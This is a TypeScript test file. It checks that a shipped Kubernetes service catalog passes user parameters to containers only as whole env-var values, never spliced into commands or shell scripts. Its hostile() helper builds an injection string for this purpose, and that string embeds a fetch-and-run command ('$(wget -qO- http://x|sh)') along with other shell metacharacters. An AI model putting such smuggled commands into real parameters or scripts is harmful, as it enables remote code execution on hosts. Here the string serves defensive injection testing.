// The shipped catalog against hostile parameters: schemas keep such values out, but the templates
// must not depend on that. Every plan is rendered with values the schemas would refuse, and a
// parameter may only ever be a whole string value (an env var's, a resource quantity's), never
// part of a command or script.
import { describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { SHIPPED_CATALOG_DIR } from '../platform/config/config.js';
import { formatProblem } from './errors.js';
import { hookEventsOf, hookScope, renderHookJobs } from './hooks.js';
import { loadCatalog } from './load.js';
import { declaredParameters } from './parameters.js';
import { placeholdersOf, tokenize } from './placeholders.js';
import { renderPlan } from './render.js';
import { shellScriptsOf } from './shell-scripts.js';
import { sampleValues } from './check.js';
import type { KubernetesObject } from './types.js';

const { catalog, warnings } = await loadCatalog(SHIPPED_CATALOG_DIR);
const plans = catalog.services.flatMap((service) => service.plans.map((plan) => ({ service, plan, name: `${service.name}/${plan.name}` })));

/** What a shell or a config file would choke on: a command substitution, quotes, newlines, a heredoc end. */
const hostile = (param: string) => `noeviction\n$(wget -qO- http://x|sh)\n\`id\`; '"$HOME' \\ $$ \${IFS}\nEOF\n${param}-end`;

/** Every string leaf of a value with its path (`spec.template.spec.containers[0].env[2].value`). */
function leaves(node: unknown, path = ''): { path: string; text: string }[] {
  if (typeof node === 'string') return [{ path, text: node }];
  if (Array.isArray(node)) return node.flatMap((item, i) => leaves(item, `${path}[${i}]`));
  if (typeof node === 'object' && node !== null) return Object.entries(node).flatMap(([k, v]) => leaves(v, path ? `${path}.${k}` : k));
  return [];
}

const COMMAND = /\.(command|args)\[\d+\]$/;
const ENV_VALUE = /\.env\[(\d+)\]\.value$/;

describe('the shipped catalog with hostile parameter values', () => {
  it('validates without a parameter inside a shell script', () => {
    expect(warnings.map(formatProblem).filter((w) => w.includes('shell script'))).toEqual([]);
  });

  it('has no placeholder at all inside its shell scripts: instance values reach them through env', () => {
    for (const { plan } of plans) {
      const templates = [...plan.templates, ...hookEventsOf(plan).flatMap((e) => plan.hooks![e]!)];
      for (const template of templates) {
        for (const script of shellScriptsOf(template)) {
          const used = placeholdersOf(tokenize(script.text, { scope: hookScope('onCreateInstance'), params: declaredParameters(plan.schemas) }).tokens);
          expect(
            used.map((p) => p.raw),
            `${template.file} ${script.field}`,
          ).toEqual([]);
        }
      }
    }
  });

  it.each(plans)('$name: a parameter is only ever a whole value, never part of a command, and the render stays valid YAML', ({ service, plan }) => {
    const values = sampleValues(plan);
    const params = Object.keys(values.parameters);
    expect(params.length).toBeGreaterThan(0);
    for (const name of params) values.parameters[name] = hostile(name);
    const objects: KubernetesObject[] = [
      ...renderPlan(service, plan, values),
      ...hookEventsOf(plan).flatMap((event) => renderHookJobs(service, plan, event, values, '00000000-0000-4000-8000-0000000000b1')),
    ];
    for (const object of objects) expect(parse(stringify(object))).toEqual(object);

    const found = new Set<string>();
    for (const object of objects) {
      const all = leaves(object);
      for (const { path, text } of all) {
        const param = params.find((p) => text.includes(`${p}-end`) || text.includes('wget -qO-'));
        if (param === undefined) continue;
        const where = `${object.kind} ${object.metadata.name} ${path}`;
        expect(params.map(hostile), `${where} splices a parameter into ${JSON.stringify(text)}`).toContain(text);
        expect(path, `${where} puts a parameter into a command`).not.toMatch(COMMAND);
        found.add(text);
        // An env var carrying a parameter is read by a script of its container as "$NAME".
        const env = ENV_VALUE.exec(path);
        if (env) {
          const container = path.slice(0, path.lastIndexOf('.env['));
          const envName = all.find((l) => l.path === `${container}.env[${env[1]}].name`)!.text;
          const scripts = all.filter((l) => l.path.startsWith(`${container}.`) && COMMAND.test(l.path)).map((l) => l.text);
          expect(
            scripts.some((s) => s.includes(`"$\{${envName}}"`) || s.includes(`"$${envName}"`)),
            `${where}: no script reads "$${envName}"`,
          ).toBe(true);
        }
      }
    }
    // Every parameter reaches the objects (else the render above proves nothing about it).
    expect([...found].sort()).toEqual(params.map(hostile).sort());
  });

  it('passes the Redis eviction policy as an env var, the only way it reaches the script', () => {
    for (const plan of catalog.services.find((s) => s.name === 'redis')!.plans) {
      const values = sampleValues(plan);
      values.parameters.maxmemory_policy = hostile('maxmemory_policy');
      const deployment = renderPlan(
        catalog.services.find((s) => s.name === 'redis')!,
        plan,
        values,
      ).find((o) => o.kind === 'Deployment') as any;
      const container = deployment.spec.template.spec.containers[0];
      expect(container.env).toContainEqual({ name: 'MAXMEMORY_POLICY', value: hostile('maxmemory_policy') });
      expect(container.args.join('\n')).toContain(`printf 'maxmemory-policy %s\\n' "\${MAXMEMORY_POLICY}"`);
    }
  });
});
